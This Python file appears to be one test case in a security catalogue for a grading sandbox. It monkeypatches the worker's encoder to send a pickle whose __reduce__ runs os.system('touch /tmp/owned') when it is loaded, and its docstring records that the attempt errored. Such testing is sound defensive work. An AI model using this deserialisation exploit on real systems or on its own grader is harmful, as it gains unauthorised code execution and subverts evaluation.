"""Sends a pickle that runs a command when it is loaded, and then a file of torch.save.

gain: code runs in the grader
catalogue: [C7, C8]
verdict: errored
observed: 'errored: an answer that is not of the agreed form'
"""

import json
import os
import struct
import sys

WORKER = sys.modules["grader.sandbox.worker.session"]
encode = WORKER.encode


def framed(header, body=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">I", len(text)) + text + body


def reply(value, tensors=()):
    tree = {"dict": [["value", value], ["forbidden", {"list": []}]]}
    return {"value": tree, "tensors": list(tensors)}


import pickle


class Reduced:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


WORKER.encode = lambda value: pickle.dumps(Reduced())
